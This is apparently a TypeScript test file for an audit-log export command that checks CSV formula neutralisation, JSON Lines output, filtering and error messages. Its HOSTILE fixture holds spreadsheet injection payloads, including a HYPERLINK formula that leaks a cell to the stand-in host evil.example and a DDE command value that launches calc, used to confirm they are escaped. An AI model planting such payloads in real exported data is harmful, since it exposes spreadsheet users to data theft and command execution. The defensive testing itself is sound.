import { join } from 'node:path'
import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { text } from 'node:stream/consumers'
import { test } from '@japa/runner'
import ExportAuditEvents from '#actions/audit/export_audit_events'
import AuditExport from '../../../commands/audit_export.js'
import { isolateInstallState } from '#tests/helpers/install'
import { makeUser, runCommand } from '../users_cli/run_command.js'
import { recordEntries } from './helpers.js'

const HOSTILE = {
  userAgent: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  requestId: "+1+cmd|' /C calc'!A0",
  targetId: '-2+3',
  targetType: '@SUM(A1:A9)',
  ip: '\t=1+1',
}

test.group('Audit export', (group) => {
  isolateInstallState(group)
  let folder: string
  group.each.setup(async () => {
    folder = await mkdtemp(join(tmpdir(), 'audit-export-'))
    return () => rm(folder, { recursive: true, force: true })
  })

  test('CSV cells that a spreadsheet would run as formulas are neutralised', async ({ assert }) => {
    await recordEntries(1, { event: 'test.hostile', ...HOSTILE })
    const output = join(folder, 'audit.csv')

    const run = await runCommand(AuditExport, ['--format', 'csv', '--output', output])

    assert.equal(run.exitCode, 0, run.stderr)
    const csv = await readFile(output, 'utf8')
    const [header, ...rows] = csv.trim().split('\n')
    assert.isTrue(header.startsWith('id,created_at,event,actor_id,actor,'))
    const row = rows.find((line) => line.includes('test.hostile'))!
    assert.include(row, `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`)
    assert.include(row, `,'+1+cmd|' /C calc'!A0,`)
    assert.include(row, `,'-2+3,`)
    assert.include(row, `,'@SUM(A1:A9),`)
    assert.include(row, `,'\t=1+1,`)
    // No cell anywhere starts with a formula character.
    for (const line of rows) assert.notMatch(line, /(^|,)"?[=+\-@\t\r]/)
  })

  test('JSON Lines give one object per entry with the stored values untouched', async ({
    assert,
  }) => {
    const ann = await makeUser({ username: 'ann' })
    await recordEntries(2, { actorId: ann.id, ...HOSTILE })

    const stream = new ExportAuditEvents().handle({ format: 'jsonl', filters: { actor: 'ann' } })
    const output = await text(stream)
    const lines = output.trim().split('\n')

    assert.lengthOf(lines, 2)
    const entries = lines.map((line) => JSON.parse(line))
    assert.containsSubset(entries[0], {
      event: 'test.sample',
      actor_id: ann.id,
      actor: 'ann',
      user_agent: HOSTILE.userAgent,
      target_type: HOSTILE.targetType,
      details: { index: 0 },
    })
    assert.match(entries[0].created_at, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/)
    assert.match(entries[1].hash, /^[0-9a-f]{64}$/)
    assert.equal(entries[1].previous_hash, entries[0].hash)
  })

  test('audit:export applies the filters it is given', async ({ assert }) => {
    await recordEntries(2, { event: 'test.kept' })
    await recordEntries(3, { event: 'test.other' })
    const output = join(folder, 'audit.jsonl')

    const run = await runCommand(AuditExport, [
      '--format=jsonl',
      `--output=${output}`,
      '--event=test.kept',
    ])

    assert.equal(run.exitCode, 0, run.stderr)
    const written = await readFile(output, 'utf8')
    const events = written
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line).event)
    assert.deepEqual(events, ['test.kept', 'test.kept'])
  })

  test('audit:export refuses a bad format or date with a sentence', async ({ assert }) => {
    const cases: [string[], string][] = [
      [['--format=xlsx'], 'The --format value must be csv or jsonl.'],
      [
        ['--from=2026-02-31'],
        'The “from” date must be a real date written as YYYY-MM-DD, for example 2026-01-31.',
      ],
      [
        ['--from=2026-03-02', '--to=2026-03-01'],
        'The “to” date must not be before the “from” date.',
      ],
    ]
    for (const [argv, message] of cases) {
      const output = join(folder, 'never.csv')
      const run = await runCommand(AuditExport, [...argv, `--output=${output}`])
      assert.equal(run.exitCode, 1, argv.join(' '))
      assert.equal(run.stderr, message)
      await assert.rejects(() => readFile(output))
    }
  })

  test('audit:export says so when the file cannot be written', async ({ assert }) => {
    const output = join(folder, 'missing-folder', 'audit.csv')

    const run = await runCommand(AuditExport, [`--output=${output}`])

    assert.equal(run.exitCode, 1)
    assert.match(run.stderr, /^Could not write .*audit\.csv: /)
  })
})
